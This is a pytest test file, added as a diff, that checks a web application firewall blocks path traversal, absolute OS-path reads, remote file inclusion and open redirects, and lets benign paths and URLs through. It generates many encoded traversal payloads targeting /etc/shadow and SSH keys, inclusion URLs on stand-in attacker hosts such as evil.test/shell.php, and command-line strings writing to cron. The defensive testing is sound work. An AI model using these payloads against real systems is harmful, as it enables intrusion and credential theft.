@@ -1,0 +1,286 @@
+"""WAF, part 2b: path traversal, OS paths and remote file inclusion
+(lua/edge/waf/detect/path.lua) through the real edge (shipped config, bans
+off).
+
+Attacks are generated, not copied from a list: every spelling of the dot
+and the separator (URL, double URL, overlong UTF-8 and its lenient form,
+IIS %u, look-alike Unicode, hex notation, backslash escapes, doubled and
+"/./" separators) times depth times OS targets, and remote inclusion as a
+value that is a whole path with its query. Benign look-alikes must pass:
+paths mentioned in prose, file names, application paths, URLs given as
+redirect or link values, each in a JSON note and as a query value."""
+import itertools
+import json
+import urllib.parse
+
+import pytest
+import requests
+
+from wafkit import WafEdge, waf_config
+
+CONF = waf_config()
+
+# The dot pair and the separator, as they travel in a URL (percent escapes
+# are kept as written; other characters are URL-encoded once when sent).
+DOTS = [
+    "..", "%2e%2e", "%252e%252e", ".%2e", "%c0%ae%c0%ae", "%c0%2e%c0%2e",
+    "%e0%80%ae%e0%80%ae", "%u002e%u002e", "%uff0e%uff0e", "0x2e0x2e",
+    "%u2025",
+]
+SEPARATORS = [
+    "/", "\\", "%2f", "%5c", "%252f", "%c0%af", "%c0%5c", "%u2215",
+    "%u2216", "%uff0f", "0x2f", "//", "/./", "\\/", ".\\/",
+]
+DEPTHS = [1, 4]
+# The OS's own files (relative to the root), written with "/" and
+# rewritten with the separator under test.
+TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ",
+           "windows/win.ini", "boot.ini"]
+
+
+def traversal(dots, sep, depth, target):
+    return (dots + sep) * depth + target.replace("/", sep)
+
+
+def send_query(session, edge, raw):
+    """raw: percent escapes kept, everything else encoded once."""
+    q = urllib.parse.quote(raw, safe="%")
+    return session.get(edge.url + "/probe?file=" + q)
+
+
+def send_json(session, edge, value):
+    return session.post(edge.url + "/probe", json={"note": value})
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-path"), CONF).start()
+    yield e
+    e.stop()
+
+
+@pytest.fixture(scope="module")
+def session():
+    with requests.Session() as s:
+        yield s
+
+
+@pytest.fixture(autouse=True)
+def no_lua_errors(edge):
+    yield
+    bad = edge.error_lines("error") + edge.error_lines("crit")
+    assert not bad, "\n".join(bad)
+
+
+def refused(r):
+    return r.status_code in (400, 403)
+
+
+# A value of letters and digits only never reaches the detectors but for
+# a lone word or base64 (edge.waf.inspect's first fast path): hex notation
+# of both the dots and the separator is such a value.
+HEX_ONLY = pytest.mark.xfail(strict=True, reason="inspect's fast path for "
+                             "letters and digits skips the path detector")
+SPELLINGS = [pytest.param(d, s, marks=HEX_ONLY) if (d, s) == ("0x2e0x2e", "0x2f")
+             else (d, s) for d, s in itertools.product(DOTS, SEPARATORS)]
+
+
+@pytest.mark.parametrize("dots,sep", SPELLINGS)
+def test_traversal_spellings_blocked(edge, session, dots, sep):
+    missed = []
+    for depth, target in itertools.product(DEPTHS, TARGETS):
+        payload = traversal(dots, sep, depth, target)
+        if not refused(send_query(session, edge, payload)):
+            missed.append(("query", payload))
+        if not refused(send_json(session, edge, payload)):
+            missed.append(("json", payload))
+    assert not missed, missed
+
+
+# Absolute paths into the OS's areas with no "..": spelled with doubled
+# or "/./" separators, a file: URL, backslashes (escaped or not), drive
+# letters (with and without a separator after the colon).
+def absolute_variants():
+    unix = ["etc/passwd", "etc/shadow", "proc/self/environ",
+            "proc/1/cmdline", "root/.ssh/id_rsa", "var/spool/cron/root",
+            "home/alice/.bash_history", "etc/nginx/nginx.conf"]
+    out = []
+    for t in unix:
+        parts = t.split("/")
+        out += [
+            "/" + t,
+            "/" + "//".join(parts),
+            "/./././" + t,
+            "/" + "/./".join(parts),
+            "file://" + "/" + t,
+            "file:" + "/" + t,
+            "\\" + "\\".join(parts),
+            "\\/" + "\\/".join(parts),
+            "%2f" + "%2f".join(parts),
+            "%u2215" + "%u2215".join(parts),
+            "/%2e/" + t,
+        ]
+    for drive, sep in itertools.product("cd", ["\\", "/"]):
+        out += [
+            f"{drive}:{sep}windows{sep}win.ini",
+            f"{drive.upper()}:{sep}WINDOWS{sep}system32{sep}drivers{sep}etc{sep}hosts",
+            f"{drive}:{sep}boot.ini",
+            f"{drive}:windows{sep}system32{sep}",
+            f"{drive}:{sep}inetpub{sep}wwwroot{sep}web.config",
+        ]
+    return out
+
+
+ABSOLUTE = absolute_variants()
+
+
+@pytest.mark.parametrize("payload", ABSOLUTE, ids=range(len(ABSOLUTE)))
+def test_absolute_os_paths_blocked(edge, session, payload):
+    assert refused(send_query(session, edge, payload)), payload
+    assert refused(send_json(session, edge, payload)), payload
+
+
+# The same targets named in a command line or an assignment, in text.
+@pytest.mark.parametrize("payload", [
+    "x; less /etc/passwd", "dd if=/etc/shadow of=/dev/null",
+    "data > /tmp/x.sh", "a | tee /var/spool/cron/root",
+    "read it: /proc/self/environ", "see C:\\Windows\\win.ini now",
+])
+def test_os_paths_in_command_lines_blocked(edge, session, payload):
+    assert refused(send_json(session, edge, payload)), payload
+    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload
+
+
+# Remote inclusion: a value that is a whole path with its query (the
+# application's own URL given as one value), or a name=URL pair, with the
+# evidence an inclusion leaves: a URL cut short by "?" (to drop the
+# suffix the application appends), an IP-literal host, an include-like
+# name given a remote script.
+SCHEMES = ["http://", "https://", "ftp://", "//"]
+HOSTS = ["attacker.test", "files.evil.test:8080", "203.0.113.9"]
+NAMES = ["page", "lang", "include_path", "mod_dir", "cfg[root]"]
+
+
+def rfi_variants():
+    out = []
+    for scheme, host, name in itertools.product(SCHEMES, HOSTS, NAMES):
+        url = f"{scheme}{host}/x/payload.txt"
+        out += [
+            f"/app/view.php?{name}={url}?",
+            f"/app/view.php?id=2&{name}={url}??",
+            f"/app/view.php?{name}={url}?&x=1",
+            f"{name}={url}?",
+        ]
+    return out
+
+
+RFI = rfi_variants()
+
+
+@pytest.mark.parametrize("payload", RFI, ids=range(len(RFI)))
+def test_remote_inclusion_in_a_value_blocked(edge, session, payload):
+    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload
+    assert refused(send_json(session, edge, payload)), payload
+
+
+@pytest.mark.parametrize("payload", [
+    "/lib/loader.php?lib_dir=https://cdn.evil.test/shell.php",
+    "/index.php?template_path=http://evil.test/t.txt",
+    "/x.php?u=http://203.0.113.9/a",
+    "/x.php?u=ftp://[2001:db8::7]/a",
+])
+def test_remote_inclusion_evidence_without_truncation(edge, session, payload):
+    assert refused(send_query(session, edge, urllib.parse.quote(payload))), payload
+    assert refused(send_json(session, edge, payload)), payload
+
+
+# Open redirects: a value a browser reads as another host while a
+# same-site check sees a path.
+def redirect_variants():
+    out = []
+    for host in ["evil.test", "203.0.113.9", "3405803785", "0xcb007109"]:
+        for lead in ["/\\", "\\/", "///", "////", "/\\/"]:
+            out += [f"{lead}{host}/landing", f"/login?to={lead}{host}"]
+    for host in ["203.0.113.9", "3405803785"]:
+        out += [f"//{host}", f"/out?url=//{host}/x", f"https://{host}/"]
+    return out
+
+
+REDIRECTS = redirect_variants()
+
+
+@pytest.mark.parametrize("payload", REDIRECTS, ids=range(len(REDIRECTS)))
+def test_open_redirects_blocked(edge, session, payload):
+    r = session.get(edge.url + "/probe", params={"next": payload})
+    assert refused(r), payload
+    assert refused(send_json(session, edge, payload)), payload
+
+
+# Benign look-alikes -----------------------------------------------------------
+
+APPS = ["nginx", "myapp", "redis", "postgresql"]
+
+
+def benign_values():
+    out = []
+    for app in APPS:
+        out += [
+            # paths mentioned in prose
+            f"Logs are under /var/log/{app}/, rotated daily.",
+            f"The config lives in /etc/{app}/{app}.conf; reload after editing.",
+            f"Man pages are in /usr/share/man, try man {app}.",
+            f"I copied the build to /opt/{app}/releases/2026 yesterday.",
+            f"Add the host to /etc/hosts and restart {app}.",
+            f"Put the file in ~/Documents/{app}.pdf and share the link.",
+            f"Keys go in ~/.ssh/config on your laptop.",
+            f"I saved it to C:\\Users\\anna\\Desktop\\{app}.txt, can you check?",
+            f"The {app} binary ends up in /usr/local/lib/{app} after install.",
+            # file names and application paths as values
+            f"{app}.tar.gz", f"{app}-2026-11.tgz", f"{app}.log", f"{app}.ini",
+            f"{app}.conf", f"~/Downloads/{app}.pdf", f"docs/{app}/readme.md",
+            f"src/{app}/main.py", f"/tmp/{app}-upload.csv",
+            f"/opt/{app}/config.yaml", f"/usr/share/doc/{app}/README",
+            f"/home/anna/projects/{app}", f"~/.config/{app}/settings.json",
+            f"C:\\Program Files\\{app}\\{app}.exe",
+            f"D:\\Photos\\2024\\{app}.jpg",
+            f"\\\\fileserver\\share\\{app}.xlsx",
+            f"./scripts/{app}.sh",
+            # URLs as redirect, link and resource values
+            f"https://{app}.example.com/dashboard?tab=2",
+            f"https://example.com/login?next=https://{app}.example.com/home",
+            f"/account/{app}/settings?ref=email",
+            f"https://cdn.example.com/{app}/app.js",
+            "https://accounts.example.com/o/oauth2/auth?redirect_uri="
+            f"https://{app}.example.com/callback&response_type=code",
+            f"https://images.example.com/resize?src=https://cdn.example.com/{app}.jpg&w=200",
+            f"https://example.com/{app}/page.php?id=3&lang=en",
+            f"ftp://ftp.example.org/pub/{app}/",
+            f"//cdn.example.com/{app}/app.js",
+            f"/// Returns the {app} handle.",
+            f"Run `go test ./...` in {app} before you push.",
+            f"{app}: see the docs/... and the rest",
+            f"https:\\/\\/{app}.example.com\\/docs",
+        ]
+    return out
+
+
+BENIGN = benign_values()
+
+
+@pytest.mark.parametrize("value", BENIGN, ids=range(len(BENIGN)))
+def test_benign_paths_and_urls_pass(edge, session, value):
+    r = send_json(session, edge, value)
+    assert r.status_code == 404, (value, "json", r.status_code)
+    r = session.get(edge.url + "/probe", params={"note": value, "next": value})
+    assert r.status_code == 404, (value, "query", r.status_code)
+
+
+def test_benign_note_on_the_real_route(edge, session):
+    """A check-in note that mentions several paths and a link."""
+    note = ("Moved the logs from /var/log/myapp/ to /srv/logs, see "
+            "docs/ops.md and https://wiki.example.com/ops?page=logs#rotation; "
+            "the old config is in /etc/myapp/myapp.conf.")
+    r = session.post(edge.url + "/api/checkins/alice", json={"note": note})
+    assert r.status_code == 200, r.text
+    body = json.loads(r.text)
+    assert body
